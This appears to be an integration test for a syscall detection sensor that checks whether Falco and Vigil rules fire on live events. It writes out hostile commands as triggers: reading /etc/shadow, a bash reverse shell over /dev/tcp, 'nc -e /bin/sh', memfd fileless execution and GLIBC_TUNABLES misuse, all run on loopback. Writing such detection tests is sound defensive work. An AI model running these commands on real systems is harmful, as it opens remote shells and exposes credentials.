/**
 * The syscall sensor on this machine, for real: bpftrace attached to tracepoints, real commands
 * (on loopback only), Falco's upstream rules (stable, incubating, sandbox) and Vigil's bundled
 * syscall pack judging the live events. Needs root, bpftrace and tracefs: skips loudly
 * without them, fails in CI (VIGIL_REQUIRE_ALL=1).
 *
 * Container rules fire without a container runtime: the commands run in a cgroup whose path
 * looks like the kubelet's (`kubepods/besteffort/pod<uid>/<64 hex>`), and the sensor must
 * derive container.id from it. One sensor serves every scenario (starting bpftrace takes
 * seconds); each scenario finds its alerts by its own processes (pid, container id, file).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { type Alert, Engine, alertToJson } from '../../../src/engine/engine.ts';
import { defaultTables } from '../../../src/engine/tables.ts';
import { encodeRecordedEvent, type SyscallEvent } from '../../../src/events/syscall.ts';
import { fieldRecorder } from '../../../src/fields/syscall/record.ts';
import { usedSyscallFields } from '../../../src/fields/syscall/table.ts';
import { replayFiles } from '../../../src/cli/replay.ts';
import { canRunSensor, startSensor, type Sensor } from '../../../src/sources/syscall/runtime.ts';
import { projectRoot, sharedPath, skipOrFail } from '../../helpers.ts';
import { FakeContainer, listener, run, toolDir, which } from './scenarios.ts';

const UPSTREAM = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => sharedPath('falco', 'rules', f));
const STABLE = UPSTREAM[0]!;
const BUNDLED = path.join(projectRoot, 'rules', 'vigil-syscall.yaml');

interface Seen { alert: Alert; ev: SyscallEvent }

function engine(files: string[], ruleMatching: 'first' | 'all'): Engine {
  const e = new Engine({ tables: defaultTables(), ruleMatching });
  const res = e.loadFiles(files);
  assert.ok(res.ok, res.diagnostics.filter((d) => d.severity === 'error').map((d) => d.message).join('\n'));
  return e;
}

async function waitFor<T>(what: string, get: () => T | undefined, ms = 15_000): Promise<T> {
  const until = Date.now() + ms;
  for (;;) {
    const v = get();
    if (v !== undefined) return v;
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

const proc = (s: Seen) => s.ev.live!.proc;

test('syscall sensor: live events raise Falco\'s rules and Vigil\'s pack', { timeout: 240_000 }, async (t) => {
  const can = canRunSensor();
  if (!can.ok) return skipOrFail(t, `syscall sensor: ${can.why}`);
  if (!UPSTREAM.every((f) => existsSync(f))) return skipOrFail(t, 'syscall sensor: ../shared/falco/rules is missing');
  if (!which('perl')) return skipOrFail(t, 'syscall sensor: perl is missing (memfd scenario)');

  const all = engine(UPSTREAM, 'all');
  const stable = engine([STABLE], 'first');
  const bundled = engine([BUNDLED], 'all');
  const recorder = fieldRecorder(defaultTables().get('syscall')!, usedSyscallFields());
  const seenAll: Seen[] = [];
  /** Every event of the test's own processes (pids spawned here), for scenarios that look at events. */
  const seenAllEvents: SyscallEvent[] = [];
  const seenStable: Seen[] = [];
  const seenBundled: Seen[] = [];
  const recorded: string[] = [];
  /** Events of interest to a scenario, picked as they pass. */
  const watch: Array<(ev: SyscallEvent) => void> = [];
  const liveAlertsOfRecorded: string[] = [];
  let recording = true;

  const onEvent = (ev: SyscallEvent): void => {
    for (const w of watch) w(ev);
    if (ev.live!.proc.parent?.pid === process.pid || ev.live!.proc.parent?.parent?.pid === process.pid || ev.live!.proc.ppid === process.pid) seenAllEvents.push(ev);
    const a = all.process(ev);
    for (const x of a) seenAll.push({ alert: x, ev });
    for (const x of stable.process(ev)) seenStable.push({ alert: x, ev });
    for (const x of bundled.process(ev)) seenBundled.push({ alert: x, ev });
    if (recording && (a.length > 0 || all.candidateCount(ev) > 0)) {
      recorded.push(encodeRecordedEvent(ev.timeNs, recorder.record(ev)));
      for (const x of a) liveAlertsOfRecorded.push(alertToJson(x));
    }
  };

  // Other test files run beside this one (timing-sensitive ones among them): the sensor, bpftrace
  // (which inherits it) and the scenarios run at a lower priority.
  os.setPriority(0, 10);
  const logs: string[] = [];
  const sensor: Sensor = startSensor({ onEvent, log: (l, m) => logs.push(`${l}: ${m}`) });
  const tools = toolDir();
  const box = new FakeContainer();
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'vigil-sensor-home-'));
  try {
    await sensor.ready;

    await t.test('cat /etc/shadow by an untrusted program', async () => {
      const r = run(['sh', '-c', 'cat /etc/shadow > /dev/null']);
      await r.exited;
      const hit = await waitFor('Read sensitive file untrusted', () => seenAll.find((s) =>
        s.alert.rule === 'Read sensitive file untrusted' && proc(s).ppid === r.pid));
      const f = hit.alert.output_fields;
      assert.equal(f['fd.name'], '/etc/shadow');
      assert.equal(f['proc.name'], 'cat');
      assert.equal(f['proc.pname'], 'sh');
      assert.equal(f['proc.cmdline'], 'cat /etc/shadow');
      assert.equal(f['proc.exepath'], path.resolve('/usr/bin/cat'));
      assert.equal(f['evt.type'], 'openat');
      assert.equal(f['user.name'], 'root');
      assert.equal(hit.ev.live!.proc.container.id, 'host');
      await waitFor('Vigil Credential File Read', () => seenBundled.find((s) => s.alert.rule === 'Vigil Credential File Read' && proc(s).ppid === r.pid));
    });

    await t.test('a write below /etc', async () => {
      const file = `/etc/vigil-sensor-test-${process.pid}-${Date.now()}`;
      try {
        const r = run(['touch', file]);
        await r.exited;
        const hit = await waitFor('Write below etc', () => seenAll.find((s) => s.alert.rule === 'Write below etc' && s.alert.output_fields['fd.name'] === file));
        assert.equal(hit.alert.output_fields['proc.name'], 'touch');
        assert.equal(hit.alert.output_fields['proc.cmdline'], `touch ${file}`);
        assert.equal(proc(hit).pid, r.pid);
        await waitFor('Vigil Write Below Etc', () => seenBundled.find((s) => s.alert.rule === 'Vigil Write Below Etc' && s.ev.live!.fd?.name === file));
      } finally {
        rmSync(file, { force: true });
      }
    });

    await t.test('a shell with a terminal in a container', async (st) => {
      if (!tools.runc) return skipOrFail(st, 'script(1) is missing (util-linux)');
      // `runc` is script(1): it gives its child a pty, and the child is the shell.
      const r = run(box.wrap([tools.runc, '-qec', 'exit 0', '/dev/null']), { env: { ...process.env, SHELL: '/bin/bash', HOME: tmp } });
      await r.exited;
      const hit = await waitFor('Terminal shell in container', () => seenAll.find((s) =>
        s.alert.rule === 'Terminal shell in container' && proc(s).container.id === box.id));
      const f = hit.alert.output_fields;
      assert.equal(f['proc.name'], 'bash');
      assert.equal(f['proc.pname'], 'runc');
      assert.notEqual(f['proc.tty'], 0);
      assert.equal(f['evt.type'], 'execve');
      assert.equal(proc(hit).container.fullId, box.fullId);
      await waitFor('Vigil Shell In Container With Terminal', () => seenBundled.find((s) =>
        s.alert.rule === 'Vigil Shell In Container With Terminal' && proc(s).container.id === box.id));
    });

    await t.test('bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 in a container', async () => {
      const l = await listener();
      try {
        const r = run(box.wrap(['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]), { env: { ...process.env, HOME: tmp } });
        await l.connected;
        await r.exited;
        const hit = await waitFor('Redirect STDOUT/STDIN to Network Connection in Container', () => seenAll.find((s) =>
          s.alert.rule === 'Redirect STDOUT/STDIN to Network Connection in Container' && proc(s).container.id === box.id &&
          s.alert.output_fields['fd.sip'] === '127.0.0.1' && s.alert.output_fields['fd.rport'] === l.port));
        const f = hit.alert.output_fields;
        assert.equal(f['proc.name'], 'bash');
        assert.equal(f['fd.type'], 'ipv4');
        assert.equal(f['fd.l4proto'], 'tcp');
        assert.match(String(f['fd.name']), new RegExp(`^127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:${l.port}$`));
        assert.ok(['dup2', 'dup3', 'dup', 'fcntl'].includes(String(f['evt.type'])));
        assert.ok([0, 1, 2].includes(hit.ev.live!.res!));
        await waitFor('Vigil Standard Stream Redirected To Socket', () => seenBundled.find((s) =>
          s.alert.rule === 'Vigil Standard Stream Redirected To Socket' && proc(s).container.id === box.id));
      } finally {
        l.close();
      }
    });

    await t.test('nc -e /bin/sh in a container', async (st) => {
      if (!tools.nc) return skipOrFail(st, 'no netcat with -e (Debian: ncat or netcat-traditional)');
      const l = await listener();
      try {
        const r = run(box.wrap([tools.nc, '-e', '/bin/sh', '127.0.0.1', String(l.port)]));
        await l.connected;
        await r.exited;
        const hit = await waitFor('Netcat Remote Code Execution in Container', () => seenAll.find((s) =>
          s.alert.rule === 'Netcat Remote Code Execution in Container' && proc(s).container.id === box.id));
        const f = hit.alert.output_fields;
        assert.equal(f['proc.name'], 'nc');
        assert.equal(f['proc.cmdline'], `nc -e /bin/sh 127.0.0.1 ${l.port}`);
        assert.equal(f['evt.type'], 'execve');
        assert.match(String(f['evt.arg.flags']), /EXE_WRITABLE/);
        await waitFor('Vigil Netcat Runs Commands', () => seenBundled.find((s) =>
          s.alert.rule === 'Vigil Netcat Runs Commands' && proc(s).container.id === box.id));
      } finally {
        l.close();
      }
    });

    await t.test('a program executed from memfd_create', async () => {
      const r = run(['perl', tools.memfdScript]);
      const code = await r.exited;
      assert.equal(code, 0, r.output());
      const hit = await waitFor('Fileless execution via memfd_create', () => seenAll.find((s) =>
        s.alert.rule === 'Fileless execution via memfd_create' && proc(s).pid === r.pid));
      const f = hit.alert.output_fields;
      assert.equal(f['proc.exepath'], 'memfd:vigil-test');
      assert.equal(f['proc.name'], String(hit.ev.live!.proc.comm));
      assert.equal(f['proc.cmdline'], `${proc(hit).comm}`);
      assert.equal(f['evt.res'], 'SUCCESS');
      await waitFor('Vigil Program Run From Memory', () => seenBundled.find((s) => s.alert.rule === 'Vigil Program Run From Memory' && proc(s).pid === r.pid));
    });

    await t.test('the environment: GLIBC_TUNABLES (incubating rule), and one longer than the kernel reads', async () => {
      const r = run(['env', 'GLIBC_TUNABLES=glibc.malloc.check=0', '/bin/true']);
      await r.exited;
      const hit = await waitFor('Potential Local Privilege Escalation via Environment Variables Misuse', () => seenAll.find((s) =>
        s.alert.rule === 'Potential Local Privilege Escalation via Environment Variables Misuse' && proc(s).pid === r.pid));
      assert.match(String(hit.alert.output_fields['proc.env']), /(^| )GLIBC_TUNABLES=glibc\.malloc\.check=0( |$)/);
      // 6 KB of environment before the variable: the kernel side reads 1,000 bytes, the rest
      // comes from /proc/<pid>/environ while the program still runs (sleep).
      const big = run(['env', '-i', `PAD=${'p'.repeat(6000)}`, 'GLIBC_TUNABLES=x', '/bin/sleep', '1.5']);
      await big.exited;
      const long = await waitFor('the alert for the long environment', () => seenAll.find((s) =>
        s.alert.rule === 'Potential Local Privilege Escalation via Environment Variables Misuse' && proc(s).pid === big.pid));
      assert.deepEqual(proc(long).env, [`PAD=${'p'.repeat(6000)}`, 'GLIBC_TUNABLES=x']);
    });

    await t.test('drop and execute a new binary (overlayfs upper layer) in a container', async (st) => {
      // An overlay mount like a container's root: the image's layer below, the container's
      // writable layer above. A program copied in lands in the upper layer.
      const ov = path.join(tmp, 'overlay');
      for (const d of ['lower', 'upper', 'work', 'merged']) mkdirSync(path.join(ov, d), { recursive: true });
      copyFileSync('/bin/true', path.join(ov, 'lower', 'imagetrue'));
      const m = spawnSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${ov}/lower,upperdir=${ov}/upper,workdir=${ov}/work`, `${ov}/merged`], { encoding: 'utf8' });
      if (m.status !== 0) return skipOrFail(st, `cannot mount overlayfs here: ${m.stderr.trim()}`);
      try {
        copyFileSync('/bin/true', path.join(ov, 'merged', 'droppedtrue'));
        chmodSync(path.join(ov, 'merged', 'droppedtrue'), 0o755);
        const lower = run(box.wrap([path.join(ov, 'merged', 'imagetrue')]));
        await lower.exited;
        const dropped = run(box.wrap([path.join(ov, 'merged', 'droppedtrue')]));
        await dropped.exited;
        const hit = await waitFor('Drop and execute new binary in container', () => seenAll.find((s) =>
          s.alert.rule === 'Drop and execute new binary in container' && proc(s).container.id === box.id));
        const f = hit.alert.output_fields;
        assert.equal(f['proc.exepath'], path.join(ov, 'merged', 'droppedtrue'));
        assert.match(String(f['evt.arg.flags']), /EXE_UPPER_LAYER/);
        const st2 = statSync(path.join(ov, 'merged', 'droppedtrue'), { bigint: true });
        assert.equal(proc(hit).exeIno, Number(st2.ino));
        assert.equal(proc(hit).exeCtimeNs, st2.ctimeNs);
        // The image's own program is on the lower layer: no alert for it.
        const ev = await waitFor('the exec of the lower-layer program', () => seenAllEvents.find((e) =>
          e.live!.proc.pid === lower.pid && e.live!.type === 'execve' && e.live!.proc.comm === 'imagetrue'));
        assert.equal(seenAll.find((s) => s.alert.rule === 'Drop and execute new binary in container' && proc(s).pid === lower.pid), undefined,
          'no alert for the image\'s own (lower-layer) program');
        assert.equal(ev.live!.proc.exeFlags & 8, 8, 'EXE_LOWER_LAYER');
      } finally {
        spawnSync('umount', [`${ov}/merged`]);
      }
    });

    await t.test('a path longer than bpftrace\'s 199-byte strings is read whole', async () => {
      const dir = path.join(tmp, 'd'.repeat(200), 'e'.repeat(200));
      mkdirSync(dir, { recursive: true });
      const file = path.join(dir, 'f'.repeat(150));
      writeFileSync(file, 'x');
      const r = run(['cat', file]);
      await r.exited;
      const ev = await waitFor('the open of the long path', () => seenAllEvents.find((e) =>
        e.live!.proc.pid === r.pid && e.live!.type === 'openat' && e.live!.fd?.name.startsWith(tmp)));
      assert.equal(ev.live!.fd!.name, file);
      assert.equal(ev.live!.fd!.name.length > 550, true);
    });

    await t.test('UDP datagrams to a peer: sendto, fd.name_changed (Falco\'s outbound macro)', async () => {
      const port = 40000 + (process.pid % 20000);
      const rules = path.join(tmp, 'udp.yaml');
      // The stable `outbound` macro without its exclusion of loopback and private addresses.
      writeFileSync(rules, [
        '- rule: Test UDP outbound',
        '  desc: test',
        `  condition: evt.type in (sendto,sendmsg) and fd.l4proto != tcp and fd.connected=false and fd.name_changed=true and (fd.typechar = 4 or fd.typechar = 6) and fd.sport = ${port} and evt.rawres >= 0`,
        '  output: udp %fd.name',
        '  priority: NOTICE',
      ].join('\n') + '\n');
      const udp = engine([rules], 'all');
      const sent: SyscallEvent[] = [];
      const fired: Alert[] = [];
      watch.push((ev) => {
        if (ev.live!.type === 'sendto' && ev.live!.fd?.sport === port) sent.push(ev);
        fired.push(...udp.process(ev));
      });
      const r = run(['perl', '-MSocket', '-e',
        `socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; my $a = sockaddr_in(${port}, inet_aton("127.0.0.1")); send($s, "x", 0, $a) or die; send($s, "y", 0, $a) or die;`]);
      assert.equal(await r.exited, 0, r.output());
      await waitFor('two sendto events', () => (sent.length >= 2 ? true : undefined));
      assert.equal(sent[0]!.live!.proc.pid, r.pid);
      assert.match(sent[0]!.live!.fd!.name, new RegExp(`^0\\.0\\.0\\.0:\\d+->127\\.0\\.0\\.1:${port}$`));
      assert.equal(sent[0]!.live!.fd!.l4proto, 'udp');
      assert.equal(sent[0]!.live!.fdNameChanged, true);
      assert.equal(sent[1]!.live!.fdNameChanged, false, 'same peer again');
      assert.equal(fired.length, 1, 'the macro matches the first datagram to a peer only');
    });

    await t.test('a quiet period raises nothing (stable rules)', async () => {
      // Let the scenarios' last events through, then watch.
      await new Promise((r) => setTimeout(r, 1500));
      const before = seenStable.length;
      const benign = run(['sh', '-c', 'ls /etc > /dev/null; cat /etc/hostname > /dev/null; id > /dev/null']);
      await benign.exited;
      await new Promise((r) => setTimeout(r, 3000));
      const extra = seenStable.slice(before).map((s) => `${s.alert.rule}: ${s.alert.output}`);
      assert.deepEqual(extra, []);
    });

    await t.test('the recorded session replays to the same alerts', async () => {
      recording = false;
      assert.ok(recorded.length > 0);
      const file = path.join(tmp, 'session.jsonl');
      writeFileSync(file, recorded.join('\n') + '\n');
      const out: string[] = [];
      const errs: string[] = [];
      const r = await replayFiles([file], { rules: UPSTREAM, source: 'syscall', ruleMatching: 'all', format: 'json' },
        { out: (l) => out.push(l), err: (l) => errs.push(l) });
      assert.equal(r.code, 0, errs.join('\n'));
      assert.deepEqual(errs, []);
      assert.ok(liveAlertsOfRecorded.length >= 6, `only ${liveAlertsOfRecorded.length} live alerts recorded`);
      assert.deepEqual(out, liveAlertsOfRecorded);
    });

    const stats = sensor.stats();
    assert.equal(stats.drops.parse, 0, 'unreadable records');
    t.diagnostic(`sensor: ${stats.events} events, ${stats.records} records, drops ${JSON.stringify(stats.drops)}, reorder ${JSON.stringify(stats.reorder)}`);
  } finally {
    await sensor.stop();
    box.remove();
    tools.remove();
    rmSync(tmp, { recursive: true, force: true });
    if (logs.some((l) => l.startsWith('error'))) t.diagnostic(logs.join('\n'));
  }
});
